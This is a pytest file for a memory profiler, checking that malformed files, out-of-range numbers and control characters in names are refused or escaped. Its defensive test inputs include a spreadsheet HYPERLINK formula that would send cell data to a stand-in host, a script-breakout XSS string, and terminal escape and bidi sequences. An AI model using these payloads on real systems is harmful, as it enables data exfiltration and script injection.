"""Bad input on the parser's and the command lines' side (issue 12): files that are not
regular (a FIFO, a device) or too large, numbers out of range in .heap files, event logs
and on the command lines, budget files that are not TOML, and names with control
characters in every format. Each is answered by a report or one sentence and exit 2:
never a traceback, a hang or a file that does not parse."""

from __future__ import annotations

import csv
import gzip
import os
import struct
import sys
import warnings
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from support.chromium import chromium
from support.paths import MEM_PARSER
from support.processes import limited_run
from support.profiling import gate
from support.synthetic_heaps import OURS, hand_symbolized
from support.synthetic_logs import header, mark_record, stack_record, timeline_record

from mem_profiler.cmd import mem_parser, mem_profiler
from mem_profiler.core.errors import HeapFileError
from mem_profiler.core.heaps import HEAPS
from mem_profiler.parser.model.aggregate import aggregate
from mem_profiler.parser.model.call_graph import call_graph
from mem_profiler.parser.model.flame_tree import collapsed_lines, flame_tree
from mem_profiler.parser.read.event_log import ALLOC
from mem_profiler.parser.read.heap_file import parse_heap, read_heap
from mem_profiler.parser.report.dot import format_dot, render_svg
from mem_profiler.parser.report.flame import format_flame_html
from mem_profiler.parser.report.text import format_text

# Two code mappings: /bin/true (the program, -p) and `{other}`, each holding one stack.
TWO_OBJECTS = """\
heap_v2/1
  t*: 2: 20 [2: 20]
@ 0x1000
  t*: 1: 10 [1: 10]
@ 0x3000
  t*: 1: 10 [1: 10]

MAPPED_LIBRARIES:
00001000-00002000 r-xp 00000000 fe:01 1 /bin/true
00003000-00004000 r-xp 00000000 fe:01 2 {other}
"""


def run_main(capsys, main, *argv: str | Path | int) -> tuple[int | str, str, str]:
    """A command's main() in this process: (exit status, stdout, stderr)."""
    code: int | str
    try:
        main([str(a) for a in argv])
        code = 0
    except SystemExit as e:
        code = e.code or 0
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def fifo(tmp_path) -> Path:
    path = tmp_path / "pipe"
    os.mkfifo(path)
    return path


# --- files that are not regular, or too large -----------------------------------------


def assert_text_report_refused(program: str | Path, heap: str | Path, sentence: str) -> None:
    """`mem_parser -p PROGRAM -f HEAP -t`, its memory limited, exits 2 within 30 s with
    nothing on stdout and `mem_parser: SENTENCE` alone on stderr."""
    done = limited_run(MEM_PARSER, "-p", program, "-f", heap, "-t", timeout=30)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == f"mem_parser: {sentence}\n"


def test_a_fifo_as_the_heap_file_is_refused_at_once(fifo):
    assert_text_report_refused(
        "/bin/true",
        fifo,
        f"{fifo} is a FIFO (named pipe), not a .heap file: only regular files are read.",
    )


def test_a_fifo_as_the_program_is_refused_at_once(fifo, tmp_path):
    heap = tmp_path / "x.heap"
    heap.write_text(OURS)
    assert_text_report_refused(
        fifo,
        heap,
        f"{fifo} is a FIFO (named pipe), not an ELF binary: only regular files are read.",
    )


def test_a_fifo_in_the_memory_map_is_skipped_with_a_warning(fifo, tmp_path):
    heap = tmp_path / "x.heap"
    heap.write_text(TWO_OBJECTS.format(other=fifo))
    done = limited_run(MEM_PARSER, "-p", "/bin/true", "-f", heap, "--collapsed", timeout=30)
    assert done.returncode == 0, done.stderr
    assert f"{fifo.name}+0x0 10" in done.stdout.splitlines()
    assert (
        f"mem_parser: warning: {fifo} is a FIFO (named pipe), not an ELF binary: only"
        " regular files are read. Its frames stay unresolved."
    ) in done.stderr.splitlines()


def test_dev_zero_is_refused_without_reading_it():
    assert_text_report_refused(
        "/bin/true",
        "/dev/zero",
        "/dev/zero is a character device, not a .heap file: only regular files are read.",
    )


@pytest.mark.parametrize(
    "name, what", [("huge.heap", "a .heap file"), ("huge_1.0001.1.memlog", "an event log file")]
)
def test_a_sparse_10_gb_file_is_refused_in_bounded_memory(tmp_path, name, what):
    path = tmp_path / name
    with open(path, "wb") as f:
        f.truncate(10 << 30)  # sparse: nothing is written
    args = ["--timeline", tmp_path / "t.svg"] if name.endswith(".memlog") else ["-t"]
    done = limited_run(MEM_PARSER, "-p", "/bin/true", "-f", path, *args)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (
        f"mem_parser: {path} is 10,737,418,240 bytes, more than {what} can"
        f" sanely be (4,294,967,296 at most): check that it is {what}.\n"
    )


def test_a_fifo_as_a_budget_file_is_refused(capsys, fifo):
    code, out, err = run_main(capsys, mem_profiler.main, "gate", "--budget", fifo, "--", "true")
    assert (code, out) == (2, "")
    assert err == (
        f"mem_profiler gate: {fifo} is a FIFO (named pipe), not a budget file: only"
        " regular files are read.\n"
    )


# --- numbers out of range in .heap files ----------------------------------------------


@pytest.mark.parametrize(
    "change, lineno, what",
    [
        (
            ("7ffe0000-7ffe1000 rw-p", "7ffe0000-10000000000000000 rw-p"),
            24,
            "a mapping whose addresses or offset are above 2^64-1 or whose end is below its start:"
            " text of 48 characters",
        ),
        (
            ("7ffe0000-7ffe1000 rw-p", "7ffe1000-7ffe0000 rw-p"),
            24,
            "a mapping whose addresses or offset are above 2^64-1 or whose end is below its start",
        ),
        (
            ("heap_v2/1024", "heap_v2/" + "9" * 400),
            1,
            "expected a 'heap_v2/<rate>' header, found text of 408 characters",
        ),
        (
            ("heap_v2/1024", "heap_v2/18446744073709551616"),
            1,
            "a sampling rate above 2^64-1 in text of 28 characters",
        ),
        (
            ("# pid: 4242", "# pid: 4294967296"),
            3,
            "'pid' must be a number from 0 to 2147483647, found text of 10 characters",
        ),
        (
            ("# pid: 4242", "# pid: ²"),
            3,
            "'pid' must be a number from 0 to 2147483647, found text of 1 characters",
        ),
        (
            ("# window_end_ns: 1763750001000000000", "# window_end_ns: 18446744073709551616"),
            8,
            "'window_end_ns' must be a number from 0 to 18446744073709551615",
        ),
        (
            ("# heap: host", "# heap: gpu"),
            6,
            "unknown heap text of 3 characters: expected one of host, cuda, cuda_host, acl,"
            " acl_host, hal",
        ),
        (
            ("# max_depth: 64", "# failed_alloc: time_ns=1 bytes=2 error=3 @ 0x12345678901234567"),
            10,
            "expected '# failed_alloc: time_ns=T bytes=N error=E @ ...' (T and N below 2^64)",
        ),
        (
            (
                "# max_depth: 64",
                "# foreign: time_ns=1 bytes=18446744073709551616 kind=ipc_open"
                " address=0x7f00 @ 0x10",
            ),
            10,
            "expected '# foreign: time_ns=T bytes=N kind=host_register|ipc_open address=0xA @ ...'"
            " (T and N below 2^64), found text of 83 characters",
        ),
        (
            ("# max_depth: 64", "# foreign: time_ns=1 bytes=2 kind=mapped address=0x7f00 @ 0x10"),
            10,
            "expected '# foreign: time_ns=T bytes=N kind=host_register|ipc_open address=0xA @ ...'",
        ),
        (
            (
                "# max_depth: 64",
                "# foreign: time_ns=1 bytes=2 kind=ipc_open address=0x12345678901234567 @ 0x10",
            ),
            10,
            "expected '# foreign: time_ns=T bytes=N kind=host_register|ipc_open address=0xA @ ...'",
        ),
        (
            ("# max_depth: 64", "# foreign_unrecorded: 18446744073709551616"),
            10,
            "'foreign_unrecorded' must be a number from 0 to 18446744073709551615",
        ),
        (
            (
                "# max_depth: 64",
                "# dropped: stack_table=1 live_table=0 memory=0 bytes=99999999999999999999",
            ),
            10,
            "expected '# dropped: stack_table=N live_table=N memory=N bytes=N' (N below 2^64)",
        ),
        (
            ("# exe: /abs/path/to/leaky", "# exe: /abs/path/to/\\x00leaky"),
            5,
            "the path in '# exe:' holds a NUL byte, which no file name can hold",
        ),
    ],
)
def test_numbers_out_of_range_name_the_line(tmp_path, capsys, change, lineno, what):
    path = tmp_path / "x.heap"
    path.write_text(OURS.replace(*change))
    with pytest.raises(HeapFileError) as raised:
        read_heap(path)
    assert str(raised.value).startswith(f"{path}:{lineno}: {what}"), raised.value
    code, out, err = run_main(capsys, mem_parser.main, "-p", "/bin/true", "-f", path, "-t")
    assert (code, out) == (2, "")
    assert err.startswith(f"mem_parser: {path}:{lineno}: {what}") and err.count("\n") == 1


def test_values_beyond_int64_are_clipped_in_pprof(tmp_path, capsys):
    """Estimates far beyond any real profile still make a profile.proto, and no warning."""
    heap = tmp_path / "x.heap"
    heap.write_text(
        OURS.replace(
            "  t*: 20: 81920 [30: 122880]\n",
            "  t*: 20: 81920 [30: 122880]\n# estimate: 1e300 1e300 1e300 1e300\n",
        ).replace(
            "  t*: 100: 409600 [100: 409600]\n",
            "  t*: 100: 409600 [100: 409600]\n# estimate: 1 2 3 4\n",
        )
    )
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # numpy's warning of a cast that wraps
        code, out, err = run_main(
            capsys,
            mem_parser.main,
            "-p",
            "/bin/true",
            "-f",
            heap,
            "--allow-mismatch",
            "--pprof",
            tmp_path / "p.pb.gz",
        )
    assert (code, out) == (0, ""), err
    assert gzip.decompress((tmp_path / "p.pb.gz").read_bytes())


# --- control characters in the '#' lines and the memory map -----------------------------


def test_escaped_names_are_read_back_and_match_the_memory_map():
    text = (
        OURS.replace("# cmdline: ./leaky 200", "# cmdline: ./leaky a\\tb\\\\c\\x1b[31m")
        .replace("/abs/path/to/leaky", "/abs/new\\nline\\r/leaky", 2)
        .replace("/abs/path/to/leaky", "/abs/new\\012line\r/leaky")
    )
    prof = parse_heap(text)
    assert prof.cmdline == "./leaky a\tb\\c\x1b[31m"
    assert prof.exe == "/abs/new\nline\r/leaky"
    assert "/abs/new\nline\r/leaky" in prof.build_ids
    assert prof.mappings[1].path == prof.exe


@pytest.mark.parametrize(
    "escaped, shown",
    [
        ("a\\qb", "q"),
        ("a\\x1Fb", "x1F"),
        ("a\\x8fb", "x8f"),
        ("ab\\", " at the end of the line"),
    ],
)
def test_a_malformed_escape_is_refused_naming_the_line(escaped, shown):
    with pytest.raises(HeapFileError) as err:
        parse_heap(OURS.replace("# cmdline: ./leaky 200", f"# cmdline: {escaped}"), "x.heap")
    assert str(err.value) == (
        f"x.heap:4: a malformed escape \\{shown} in '# cmdline:' (the"
        " sampler writes only \\\\, \\n, \\r, \\t and \\xHH)"
    )


# --- event logs -------------------------------------------------------------------------


def event_of_heap(heap: int, t: int, size: int, address: int, stack: int) -> bytes:
    return struct.pack("<BBHIqQQI", ALLOC, heap, 36, 7, 10**18 + t, size, address, stack)


def test_records_of_an_unknown_heap_are_left_out_with_a_warning(tmp_path, capsys):
    base = tmp_path / "x_1.0001"
    log = Path(f"{base}.1.memlog")
    log.write_bytes(
        header()
        + stack_record(1, [0x401000])
        + event_of_heap(0, 1000, 64, 0x10, 1)
        + event_of_heap(len(HEAPS), 2000, 64, 0x20, 1)  # one past the last heap
        + event_of_heap(255, 3000, 8, 0x30, 1)
        + timeline_record(100_000_000, 64, 64)
    )
    code, out, err = run_main(
        capsys, mem_parser.main, "-p", "/bin/true", "-f", log, "--peak", "--collapsed"
    )
    assert code == 0, err
    assert out == "0x401000 64\n"
    assert (
        f"mem_parser: warning: 2 allocation and free records of {base} have a heap number,"
        " time or size out of range (the log is damaged): they are left out.\n"
    ) in err


def test_a_window_start_beyond_2_63_is_one_sentence(tmp_path, capsys):
    log = tmp_path / "x_1.0001.1.memlog"
    log.write_bytes(header(start=2**63) + event_of_heap(0, 1000, 64, 0x10, 1))
    code, out, err = run_main(capsys, mem_parser.main, "-p", "/bin/true", "-f", log, "--peak")
    assert (code, out) == (2, "")
    assert err == (
        f"mem_parser: {log} is damaged: its window starts at 9223372036854775808 ns,"
        " beyond any real time.\n"
    )


def marked_log(tmp_path, *marks: bytes):
    """A log of one allocation and then these marks' texts, 100 ns apart."""
    log = tmp_path / "x_1.0001.1.memlog"
    log.write_bytes(
        header()
        + stack_record(1, [0x401000])
        + event_of_heap(0, 1000, 64, 0x10, 1)
        + b"".join(mark_record(1500 + 100 * k, text) for k, text in enumerate(marks))
        + timeline_record(100_000_000, 64, 64)
    )
    return log


def test_a_mark_with_control_characters_keeps_the_timeline_well_formed(tmp_path, capsys):
    log = marked_log(tmp_path, b"a\x01b\x1b[2J <&> \xff")
    svg = tmp_path / "t.svg"
    code, _, err = run_main(
        capsys, mem_parser.main, "-p", "/bin/true\x7f", "-f", log, "--timeline", svg
    )
    assert code == 0, err
    texts = ["".join(e.itertext()) for e in ET.parse(svg).iter("{http://www.w3.org/2000/svg}text")]
    assert "a\\x01b\\x1b[2J <&> \ufffd" in texts
    assert any(t.startswith("true\\x7f (pid 4242)") for t in texts), texts


def test_a_mark_a_spreadsheet_would_run_is_text_in_the_csv(tmp_path, capsys):
    log = marked_log(tmp_path, b'=HYPERLINK("http://x.example/?"&A1,"open")', b"@SUM(1)")
    table = tmp_path / "e.csv"
    code, _, err = run_main(
        capsys, mem_parser.main, "-p", "/bin/true", "-f", log, "--events-csv", table
    )
    assert code == 0, err
    with open(table, newline="") as f:
        marks = [r["text"] for r in csv.DictReader(f) if r["event"] == "mark"]
    assert marks == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "'@SUM(1)"]


# --- names in the call graph and the flame graph ----------------------------------------


def test_control_characters_in_names_keep_the_call_graph_well_formed():
    sym = hand_symbolized([['bad\x01name\nnext "q" \\N', "main"]], [1], [100])
    svg = render_svg(format_dot(call_graph(sym, "inuse_space"), "prog\x02"))
    texts = [
        "".join(e.itertext()) for e in ET.fromstring(svg).iter("{http://www.w3.org/2000/svg}text")
    ]
    assert 'bad\\x01name\\nnext "q" \\N' in texts and "prog\\x02" in texts, texts


def test_control_characters_in_names_stay_on_their_line_in_text_reports():
    sym = hand_symbolized([["bad\nname;x\x1b[2J", "main"]], [1], [100])
    table = aggregate(sym, full_names=True)
    assert format_text(table).splitlines()[1:] == [
        "     0.0 100.0% 100.0%      0.0 100.0% bad\\nname;x\\x1b[2J",
        "     0.0   0.0% 100.0%      0.0 100.0% main",
    ]
    assert "".join(collapsed_lines(sym, full_names=True)) == "main;bad\\nname:x\\x1b[2J 100\n"


def test_characters_that_reorder_a_terminal_line_are_shown_as_escapes():
    sym = hand_symbolized([["evil\u202etxt.exe\u2028next\u2066x", "main"]], [1], [100])
    assert (
        format_text(aggregate(sym, full_names=True))
        .splitlines()[1]
        .endswith("evil\\u202etxt.exe\\u2028next\\u2066x")
    )


def test_control_characters_in_a_command_keep_the_junit_report_well_formed(tmp_path):
    junit = tmp_path / "r.xml"
    done = gate(
        "--max-peak", "1GiB", "--junit", junit, "--", sys.executable, "-c", "pass", "a\x01b\x1bc"
    )
    assert done.returncode == 0, done.stderr
    shown = f"{sys.executable} -c pass a\\x01b\\x1bc"
    command = ET.parse(junit).find(".//property[@name='command']")
    assert command is not None
    assert command.get("value") == shown
    assert done.stderr.startswith(f"mem_profiler gate: python: {shown} (pid ")


HOSTILE = "</script><script>document.body.dataset.pwned='yes'</script><!--"


def test_a_name_cannot_break_out_of_the_flame_graphs_script(tmp_path):
    sym = hand_symbolized([[HOSTILE, "main"], ["a & b \u2028 c > d", "main"]], [1, 1], [100, 50])
    page = tmp_path / "flame.html"
    page.write_text(format_flame_html(flame_tree(sym, full_names=True), "prog</title>"))
    assert "</script><script>document" not in page.read_text()
    dom = chromium("--dump-dom", page.as_uri(), profile_dir=tmp_path / "profile").stdout
    assert "pwned" not in dom.split('<div id="chart"')[0]  # no script ran, body untouched
    names = [
        "</script><script>document.body.dataset.pwned='yes'</script><!--",
        "a & b \u2028 c > d",
        "main",
    ]
    for name in names:
        shown = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert f'data-name="{shown}"' in dom, name
    assert "<title>prog&lt;/title&gt;</title>" in dom


# --- numbers and encodings on the command lines -----------------------------------------


@pytest.mark.parametrize(
    "argv, message",
    [
        (
            ["-p", "4242", "-c", "18446744073709551616"],
            "Invalid value for '-c' / '--rate':"
            " 18446744073709551616 is not in the range 1<=x<=9223372036854775808",
        ),
        (
            ["-p", "4242", "-s", "nan"],
            "Invalid value for '-s' / '--seconds': 'nan' is not a finite number",
        ),
        (
            ["-p", "4242", "-s", "inf"],
            "Invalid value for '-s' / '--seconds': inf is not in the range 0<x<=2592000",
        ),
        (
            ["-p", "4242", "-s", "1e30"],
            "Invalid value for '-s' / '--seconds': 1e+30 is not in the range 0<x<=2592000",
        ),
        (["-p", "-1"], "Invalid value for '-p' / '--pid': -1 is not in the range 1<=x<=2147483647"),
        (
            ["run", "--log-cap", "8GiB", "--", "true"],
            "Invalid value for '--log-cap': '8GiB' is not a valid integer range",
        ),
        (
            ["run", "--log-cap", str(5 << 30), "--", "true"],
            "Invalid value for '--log-cap': 5368709120 is not in the range 4096<=x<=4294967296",
        ),
        (
            ["gate", "-c", "1e3", "--", "true"],
            "Invalid value for '-c' / '--rate': '1e3' is not a valid integer range",
        ),
    ],
)
def test_mem_profiler_refuses_numbers_out_of_range(capsys, argv, message):
    code, out, err = run_main(capsys, mem_profiler.main, *argv)
    assert (code, out) == (2, "")
    assert err == f"mem_profiler: {message} (see mem_profiler --help).\n"


@pytest.mark.parametrize(
    "argv, message",
    [
        (["--at", "nan"], "Invalid value for '--at': 'nan' is not a finite number"),
        (["--at", "inf"], "Invalid value for '--at': inf is not in the range 0<=x<=9223372036854"),
        (
            ["--at", "1e308"],
            "Invalid value for '--at': 1e+308 is not in the range 0<=x<=9223372036854",
        ),
        (
            ["-s", "--nodefraction", "nan"],
            "Invalid value for '--nodefraction': 'nan' is not a finite number",
        ),
        (
            ["-s", "--edgefraction", "-inf"],
            "Invalid value for '--edgefraction': -inf is not in the range 0<=x<=1",
        ),
    ],
)
def test_mem_parser_refuses_numbers_out_of_range(capsys, argv, message):
    code, out, err = run_main(capsys, mem_parser.main, "-p", "prog", "-f", "x.heap", *argv)
    assert (code, out) == (2, "")
    assert err == f"mem_parser: {message} (see mem_parser --help).\n"


def test_a_path_that_is_not_utf8_is_shown_escaped(capsys):
    code, out, err = run_main(
        capsys,
        mem_parser.main,
        "-p",
        "/bin/true",
        "-f",
        os.fsdecode(b"/nonexistent/\xff\n.heap"),
        "-t",
    )
    assert (code, out) == (2, "")
    assert err == (
        "mem_parser: /nonexistent/\\xff\\n.heap does not exist (a .heap file, or a"
        " capture's prefix such as /tmp/svc_4242.0001).\n"
    )


@pytest.mark.parametrize(
    "content, message",
    [
        (
            b'[commands.x]\nrun = "echo \\"hi"\n',
            "{path}: 'run' in [commands.x] cannot be split as the shell does: no closing quotation",
        ),
        (
            b"\xff\xfe[\x00h\x00o\x00s\x00t\x00]\x00",
            "{path} is not UTF-8 text (byte 0 is 0xff): save it as UTF-8, as TOML requires",
        ),
        (
            b"[host]\nmax-peak = 99999999999999999999999999\n",
            "{path}: [host]: bad size 99999999999999999999999999: more than 8 EiB (2^63 bytes)",
        ),
        (
            b"[host]\nmax-peak = '1e999 GiB'\n",
            "{path}: [host]: bad size '1e999 GiB': expected a number of bytes",
        ),
        (b"[host]\nmax-peak = '" + b"9" * 400 + b" GiB'\n", "{path}: [host]: bad size '9999"),
        (b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n", "{path} nests arrays or tables too deeply"),
        (b'["a\\nb"]\n', "{path}: unknown table [a\\nb]: expected a heap"),
    ],
)
def test_bad_budget_files_are_one_sentence(tmp_path, capsys, content, message):
    path = tmp_path / "budget.toml"
    path.write_bytes(content)
    code, out, err = run_main(capsys, mem_profiler.main, "gate", "--budget", path, "--", "true")
    assert (code, out) == (2, "")
    assert err.startswith("mem_profiler gate: " + message.format(path=path)), err
    assert err.count("\n") == 1, err


def test_an_error_never_echoes_the_file(tmp_path, capsys):
    """A text file given with -f (here through the user's own link) is refused with its
    line's length, never its content: the reader may be reading for another user, and a
    terminal would act on what it holds."""
    secret = tmp_path / "notes.txt"
    secret.write_text("password=hunter2\x1b]0;pwned\x07\n")
    link = tmp_path / "x.heap"
    link.symlink_to(secret)
    code, out, err = run_main(capsys, mem_parser.main, "-f", link, "-t")
    assert (code, out) == (2, "")
    assert err.startswith(f"mem_parser: {link}:1: expected a 'heap_v2/<rate>' header, found ")
    assert "hunter2" not in err and "pwned" not in err


def test_a_pprof_mapping_named_with_a_nul_is_refused(tmp_path, capsys):
    """No file name holds a NUL byte (the pprof fuzz run found one ended --pprof in a
    traceback): the profile is refused in a sentence."""
    from mem_profiler.parser.common.protobuf import int_field, message

    strings = ["", "inuse_space", "bytes", "/lib/x\0.so", "ab12"]
    proto = (
        message(1, int_field(1, 1) + int_field(2, 2))
        + message(2, message(1, b"\x01") + message(2, b"\x40"))
        + message(3, int_field(1, 1) + int_field(2, 4096) + int_field(3, 8192)
                  + int_field(5, 3) + int_field(6, 4))
        + message(4, int_field(1, 1) + int_field(2, 1) + int_field(3, 5000))
        + b"".join(message(6, s.encode()) for s in strings)
    )  # fmt: skip
    path = tmp_path / "x.pb.gz"
    path.write_bytes(gzip.compress(proto))
    code, out, err = run_main(capsys, mem_parser.main, "-f", path, "--pprof", tmp_path / "o")
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and "holds a NUL byte, which no file name can hold" in err, err
